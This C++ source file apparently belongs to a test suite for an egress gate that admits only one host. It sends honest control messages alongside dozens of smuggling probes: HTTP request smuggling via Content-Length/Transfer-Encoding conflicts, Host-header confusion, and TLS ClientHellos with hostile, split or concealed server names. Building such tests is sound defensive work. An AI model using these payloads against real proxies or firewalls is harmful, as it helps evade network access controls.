// Sends to the one allowed host what is meant for another. Each message carries the run's marker; if it arrives, the
// attack has worked. The honest messages carry it too, and must arrive: otherwise the others prove nothing.
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <string>

#include "attack/program/attack.h"
#include "attack/program/client_hello.h"
#include "attack/program/reach.h"

namespace sallyport::attacks {
namespace {

using namespace std::string_literals;

constexpr std::string_view kName = "allowed.test";
constexpr int kHttp = 80;
constexpr int kTls = 443;
// A port that a rule names: any protocol is allowed there, unless it names another host.
constexpr int kNamed = 4873;
constexpr int kPatience = 3000;

std::string marker() { return arg("marker"); }
std::string other() { return marker() + ".test"; }

int allowed(int port) { return connect_by_name(kName, port, arg_number("allowed")); }

// Waits for an answer, because the gate needs time to pass the message on.
void send_message(int port, std::string_view message) {
  const int fd = allowed(port);
  say(fd, message);
  answered(fd, kPatience);
  close(fd);
}

// Sends the second when the first has been answered.
void send_twice(int port, std::string_view first, std::string_view second) {
  const int fd = allowed(port);
  say(fd, first);
  char answer[4096];
  if (answered(fd, kPatience)) recv(fd, answer, sizeof answer, 0);
  say(fd, second);
  answered(fd, kPatience);
  close(fd);
}

std::string request(std::string_view target, std::string_view host, std::string_view more = "") {
  return "GET "s.append(target).append(" HTTP/1.1\r\nHost: ").append(host).append("\r\n").append(more) + "\r\n";
}
std::string honest_request() { return request("/", kName); }
std::string hostile_request() { return request("/" + marker(), other()); }

void hidden_request() {
  const std::string inner = hostile_request();
  send_message(kHttp, "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: " + std::to_string(5 + inner.size()) +
                          "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner);
}

void endless_head() {
  constexpr std::size_t kEndless = 1U << 20U;
  send_message(kHttp,
               "GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Long: " + std::string(kEndless, 'x') + marker() + "\r\n\r\n");
}

Hello hello(std::string extensions) { return {.random = marker(), .extensions = std::move(extensions)}; }

constexpr unsigned kPadding = 21;
constexpr unsigned kEarlyData = 42;
constexpr unsigned kEncryptedHello = 0xfe0d;

std::string padding() { return extension(kPadding, std::string(8000, '\0')); }

void send_slowly(const std::string& records) {
  const int fd = allowed(kTls);
  const int at_once = 1;
  setsockopt(fd, IPPROTO_TCP, 1 /* TCP_NODELAY */, &at_once, sizeof at_once);
  constexpr std::size_t kPiece = 9;
  for (std::size_t at = 0; at < records.size(); at += kPiece) {
    say(fd, std::string_view(records).substr(at, kPiece));
    usleep(200);
  }
  answered(fd, kPatience);
  close(fd);
}

// Just large enough to keep the marker in one piece, for the judge to find.
constexpr std::size_t kSmallRecord = 40;

constexpr std::string_view kWarning("\x15\x03\x03\x00\x02\x01\x5a", 7);
constexpr std::string_view kChangeCipherSpec("\x14\x03\x03\x00\x01\x01", 6);
constexpr std::string_view kEmptyRecord("\x16\x03\x03\x00\x00", 5);
constexpr std::string_view kData("\x17\x03\x03\x00\x01x", 6);
constexpr std::string_view kKeyExchange("\x16\x03\x03\x00\x05\x10\x00\x00\x01k", 10);

std::string honest_hello() { return client_hello({.random = "first", .extensions = server_name(kName)}); }
std::string hostile_hello() { return client_hello(hello(server_name(other()))); }

// Sends the allowed host's own hello; then, after something that servers skip, one for another host.
void greet_behind(std::string_view between) {
  send_twice(kTls, honest_hello(), std::string(between) + hostile_hello());
}

// Both hellos as one record's content.
void joined_hellos() {
  constexpr std::size_t kHeader = 5;
  const std::string content = honest_hello().substr(kHeader) + hostile_hello().substr(kHeader);
  std::string record("\x16\x03\x01", 3);
  record += static_cast<char>(content.size() >> 8U);
  record += static_cast<char>(content.size());
  send_message(kTls, record + content);
}

// A request for another host on the named port, its words parted by `blank`.
void ask_with(std::string_view method, std::string_view blank, std::string_view before = {}) {
  std::string line(before);
  line.append(method).append(blank).append("/" + marker()).append(blank).append("HTTP/1.1\r\nHost: ");
  send_message(kNamed, line + other() + ":4873\r\n\r\n");
}

void ask_at_length() {
  constexpr std::size_t kLong = 70'000;
  send_message(kNamed, "FOO /" + std::string(kLong, 'x') + marker() + " HTTP/1.1\r\nHost: " + other() + "\r\n\r\n");
}

// A first part that could be anything, and when that has gone through, the rest.
void ask_in_two_parts() {
  const int fd = allowed(kNamed);
  say(fd, "G");
  answered(fd, 200);
  say(fd, "ET /" + marker() + " HTTP/1.1\r\nHost: " + other() + "\r\n\r\n");
  answered(fd, kPatience);
  close(fd);
}

constexpr auto kDeeds = std::to_array<Entry>({
    Entry{"honest_http", [] { send_message(kHttp, request("/" + marker(), kName)); }},
    Entry{"honest_tls", [] { send_message(kTls, client_hello(hello(server_name(kName)))); }},
    Entry{"honest_split_hello", [] { send_slowly(client_hello(hello(server_name(kName)), kSmallRecord)); }},
    Entry{"honest_late_name", [] { send_message(kTls, client_hello(hello(padding() + server_name(kName)))); }},
    Entry{"http_other_host", [] { send_message(kHttp, hostile_request()); }},
    Entry{"http_absolute_form", [] { send_message(kHttp, request("http://" + other() + "/", kName)); }},
    Entry{"http_kept_alive", [] { send_twice(kHttp, honest_request(), hostile_request()); }},
    Entry{"http_pipelined", [] { send_message(kHttp, honest_request() + hostile_request()); }},
    Entry{"http_two_hosts", [] { send_message(kHttp, request("/", kName, "Host: " + other() + "\r\n")); }},
    Entry{"http_folded_host", [] { send_message(kHttp, request("/", "allowed.test\r\n ." + other())); }},
    Entry{"http_hidden_request", hidden_request},
    Entry{"http_userinfo", [] { send_message(kHttp, request("/", "allowed.test@" + other())); }},
    Entry{"http_nul_in_host", [] { send_message(kHttp, request("/", "allowed.test"s + '\0' + other())); }},
    Entry{"http_unicode_dot", [] { send_message(kHttp, request("/", "allowed.test\xe3\x80\x82" + other())); }},
    Entry{"http_connect",
          [] { send_message(kHttp, "CONNECT " + other() + ":443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); }},
    Entry{"http_upgrade",
          [] {
            send_twice(kHttp, request("/", kName, "Connection: upgrade\r\nUpgrade: h2c\r\n"), marker() + "\r\n\r\n");
          }},
    Entry{"http2_preface", [] { send_message(kHttp, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + marker()); }},
    Entry{"http_endless_head", endless_head},
    Entry{"raw_on_http_port", [] { send_message(kHttp, "\x01\x02" + marker() + "\r\n\r\n"); }},
    Entry{"raw_on_tls_port", [] { send_message(kTls, "SSH-2.0-" + marker() + "\r\n\r\n"); }},
    Entry{"tls_other_name", [] { send_message(kTls, client_hello(hello(server_name(other())))); }},
    Entry{"tls_no_name", [] { send_message(kTls, client_hello(hello(""))); }},
    Entry{"tls_split_hello", [] { send_slowly(client_hello(hello(server_name(other())), kSmallRecord)); }},
    Entry{"tls_late_name", [] { send_message(kTls, client_hello(hello(padding() + server_name(other())))); }},
    Entry{"tls_two_names", [] { send_message(kTls, client_hello(hello(two_server_names(kName, other())))); }},
    Entry{"tls_nul_in_name",
          [] { send_message(kTls, client_hello(hello(server_name("allowed.test"s + '\0' + other())))); }},
    Entry{"tls_ech",
          [] { send_message(kTls, client_hello(hello(server_name(kName) + extension(kEncryptedHello, marker())))); }},
    Entry{"tls_early_data",
          [] { send_message(kTls, client_hello(hello(server_name(kName) + extension(kEarlyData, "")))); }},
    Entry{"tls_second_hello",
          [] {
            send_twice(kTls, client_hello({.random = "first", .extensions = server_name(kName)}),
                       client_hello(hello(server_name(other()))));
          }},
    Entry{"tls_hello_behind_warning", [] { greet_behind(kWarning); }},
    Entry{"tls_hello_behind_warnings",
          [] { greet_behind(std::string(kWarning).append(kChangeCipherSpec) += kWarning); }},
    Entry{"tls_hello_behind_change", [] { greet_behind(kChangeCipherSpec); }},
    Entry{"tls_hello_behind_empty", [] { greet_behind(kEmptyRecord); }},
    Entry{"tls_hello_behind_data", [] { greet_behind(kData); }},
    Entry{"tls_hello_behind_message", [] { greet_behind(kKeyExchange); }},
    Entry{"tls_third_hello", [] { greet_behind(honest_hello()); }},
    Entry{"tls_joined_hellos", joined_hellos},
    Entry{"named_honest_http", [] { send_message(kNamed, request("/" + marker(), "allowed.test:4873")); }},
    Entry{"named_honest_nats", [] { send_message(kNamed, "CONNECT {\"name\":\"" + marker() + "\"}\r\n\r\n"); }},
    Entry{"named_http_other_host", [] { ask_with("GET", " "); }},
    Entry{"named_http_vertical_tab", [] { ask_with("GET", "\v"); }},
    Entry{"named_http_form_feed", [] { ask_with("FOO", "\f"); }},
    Entry{"named_http_nbsp", [] { ask_with("GET", "\xa0"); }},
    Entry{"named_http_nul", [] { ask_with("FOO", {"\0", 1}); }},
    Entry{"named_http_control", [] { ask_with("FOO /\x01", " "); }},
    Entry{"named_http_byte_order_mark", [] { ask_with("GET", " ", "\xef\xbb\xbf"); }},
    Entry{"named_http_proxy_header", [] { ask_with("GET", " ", "PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n"); }},
    Entry{"named_http_09", [] { send_message(kNamed, "GET http://" + other() + "/\r\n\r\n"); }},
    Entry{"named_http_long_line", ask_at_length},
    Entry{"named_http_two_parts", ask_in_two_parts},
    Entry{"named_tls_behind_warning", [] { send_message(kNamed, std::string(kWarning) + hostile_hello()); }},
});

}  // namespace

std::span<const Entry> smuggling_deeds() { return kDeeds; }

}  // namespace sallyport::attacks
